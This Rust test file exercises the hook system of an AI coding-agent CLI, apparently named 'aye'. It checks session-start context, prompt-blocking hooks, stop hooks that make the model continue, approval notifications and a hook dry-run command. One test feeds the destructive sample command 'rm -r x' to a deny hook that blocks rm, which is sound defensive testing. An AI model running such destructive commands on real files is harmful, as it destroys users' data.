    assert_eq!(server.requests().len(), 1);
    terminal.kill();
}

#[test]
fn session_context_is_sent_with_the_first_prompt() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let project = with_hook(&server, "SessionStart", "startup", "echo 'Read CONTRIBUTING first.'");
    let mut terminal = project.open_sized(&["--trust"], 110, 30);
    terminal.wait_for("Try:");
    terminal.prompt("one");
    terminal.wait_for("Done.");
    assert!(server.request(0).messages().contains("Read CONTRIBUTING first."));
    terminal.prompt("two");
    assert!(wait_until(TIMEOUT, || server.requests().len() == 2));
    assert_eq!(server.request(1).messages().matches("Read CONTRIBUTING first.").count(), 1);
    terminal.kill();
}

#[test]
fn session_context_is_sent_with_the_first_prompt_that_hooks_do_not_block() {
    let server = Server::with_responder(|_| Answer::text("Done."));
    let hook = |command: &str| json!([{ "hooks": [{ "type": "command", "command": command }] }]);
    let hooks = json!({ "hooks": {
        "SessionStart": hook("echo 'Read CONTRIBUTING first.'"),
        "UserPromptSubmit": hook("if grep -q secret; then exit 2; fi"),
    } });
    let project = Project::with(&server).policy(OPEN).file(".claude/settings.json", &hooks.to_string());
    let mut client = Rpc::start(&project, &["--trust"]);
    client.create(&project);
    assert_eq!(client.fails("StartTask", json!({"prompt": "my secret"})), -32009);
    client.call("StartTask", json!({"prompt": "one"}));
    client.event("task_completed");
    assert_eq!(client.leave(), 0);
    assert_eq!(server.request(0).messages().matches("Read CONTRIBUTING first.").count(), 1);
}

#[test]
fn stop_hooks_can_continue_a_task_a_limited_number_of_times() {
    let server = Server::with_responder(|_| Answer::text("Finished."));
    let project =
        with_hook(&server, "Stop", "", "grep -q '\"stop_hook_active\":true' && exit 0; echo 'run the tests' >&2; exit 2");
    project.aye(&["exec", "--trust", "go"]).exits(0);
    assert_eq!(server.requests().len(), 2);
    assert!(server.request(1).messages().contains("[From the hook .claude/settings.json Stop 1]\\nrun the tests"));
    let project = project.file(".claude/settings.json", &settings("Stop", "", "echo again >&2; exit 2"));
    let told = project.aye(&["exec", "--trust", "go"]).exits(0);
    assert_eq!(server.requests().len(), 2 + 9);
    assert!(told.stderr.contains("the hooks made the model continue 8 times"), "{}", told.stderr);
}

#[test]
fn hooks_are_notified_of_pending_approvals() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let project = Project::with(&server).policy(ASKING);
    let mark = project.directory("home").join("mark");
    let notify = program(&project, "notify.sh", &format!("cat >> {}", mark.display()));
    own_hooks(&project, &format!("[[Notification]]\nmatcher = \"permission_prompt\"\ncommand = \"{notify}\"\nsandbox = false\n"));
    project.aye(&["hooks", "pin"]).exits(0);
    let mut terminal = project.open_sized(&[], 110, 36);
    terminal.wait_for("Try:");
    terminal.prompt("go");
    terminal.review("a.txt");
    let told = || fs::read_to_string(&mark).unwrap_or_default();
    assert!(wait_until(TIMEOUT, || told().contains("aye needs your approval")), "{}", told());
    assert!(told().contains("a.txt"), "{}", told());
    terminal.kill();
}

#[test]
fn hooks_are_tested_without_running_a_call() {
    let server = Server::new([]);
    let project = with_hook(&server, "PreToolUse", "Bash", "grep -q rm && { echo 'no rm' >&2; exit 2; }; exit 0");
    let test = |arguments: &str| project.aye(&["hooks", "test", "PreToolUse", "--trust", "--args", arguments]).exits(0).stdout;
    let told = test(r#"{"command": "rm -r x"}"#);
    assert!(told.contains("PreToolUse 1 (") && told.contains("denies the call: no rm"), "{told}");
    assert!(test(r#"{"command": "ls"}"#).contains("no opinion"));
    let other = project.aye(&["hooks", "test", "PreToolUse", "--trust", "--tool", "Read", "--args", r#"{"path": "x"}"#]);
    assert!(other.exits(0).stdout.contains("No hook matches this call."));
    project.aye(&["hooks", "test", "PreToolUse", "--args", "x"]).exits(2).says(&["`--args` is not a JSON object"]);
    project.aye(&["hooks", "test", "BeforeTool"]).exits(2).says(&["expected one of PreToolUse"]);
}

#[test]
fn hooks_do_not_run_again_for_an_evaluated_call_after_a_crash() {
    let server = Server::new([writes("c1", "a.txt"), Answer::text("Done.")]);
    let project = Project::with(&server).policy(ASKING);
    let mark = project.directory("home").join("mark");
    let output = json!({"hookSpecificOutput": {"updatedInput": {"file_path": "changed.txt", "content": "by the hook\n"}}});
    let hook = program(&project, "hook.sh", &format!("echo run >> {}; cat <<'E'\n{output}\nE", mark.display()));
    own_hooks(&project, &format!("[[PreToolUse]]\ncommand = \"{hook}\"\nsandbox = false\n"));
    project.aye(&["hooks", "pin"]).exits(0);
    let mut terminal = project.open_sized(&[], 110, 36);
    terminal.wait_for("Try:");
    terminal.prompt("go");
    terminal.review("rewritten by the hook");
    terminal.kill();
    let mut terminal = project.open_sized(&["--continue"], 110, 36);
    let screen = terminal.review("rewritten by the hook");
    assert!(screen.contains("changed.txt"), "{screen}");
    terminal.decide('y');
    terminal.wait_for("Done.");
    assert_eq!(fs::read_to_string(&mark).unwrap(), "run\n");
    assert_eq!(project.read("changed.txt"), "by the hook\n");
    assert!(terminal.quit().success());
}

#[test]
fn hooks_at_the_start_and_the_end_of_an_agent_add_context_and_let_it_continue() {
    let server = Server::with_responder(|request| {
        let is_of_agent = request.messages().contains("You work on this task for another session");
        match (is_of_agent, request.tool_results().len()) {
            (false, 0) => Answer::call("c1", "Agent", json!({"agent": "explore", "prompt": "Where is it?"})),
            (false, _) => Answer::text("Done."),
            (true, _) => Answer::text("Found it."),
        }
    });
    let command = |line: &str| json!([{ "matcher": "explore", "hooks": [{ "type": "command", "command": line }] }]);
    let start =
        "cat >&2; echo '{\"hookSpecificOutput\":{\"hookEventName\":\"SubagentStart\",\"additionalContext\":\"Look in lib.\"}}'";
    let end = "grep -q '\"stop_hook_active\":true' && exit 0; echo 'name the line' >&2; exit 2";
    let settings = json!({ "hooks": {
        "SubagentStart": command(start),
        "SubagentStop": command(end),
        "UserPromptSubmit": [{ "hooks": [{ "type": "command", "command": "echo 'From the prompt.'" }] }],
    }});
    let project = Project::with(&server).policy(OPEN).file(".claude/settings.json", &settings.to_string());
    project.aye(&["exec", "--trust", "go"]).exits(0);
    let of_agent: Vec<String> = server
        .requests()
        .iter()
        .map(crate::support::Request::messages)
        .filter(|messages| messages.contains("You work on this task for another session"))
        .collect();
    assert_eq!(of_agent.len(), 2, "the hook lets the agent continue once");
    assert!(of_agent[0].contains("Look in lib.") && !of_agent[0].contains("From the prompt."), "{}", of_agent[0]);
    assert!(of_agent[1].contains("name the line"), "{}", of_agent[1]);
    let told = project.aye(&["hooks", "test", "SubagentStop", "--trust", "--text", "x"]).exits(0);
    assert!(told.stdout.contains("name the line"), "{}", told.stdout);
    let told = project.aye(&["hooks", "test", "SubagentStop", "--agent", "review", "--trust"]).exits(0);
    assert!(!told.stdout.contains("name the line"), "the matcher names another agent: {}", told.stdout);
}
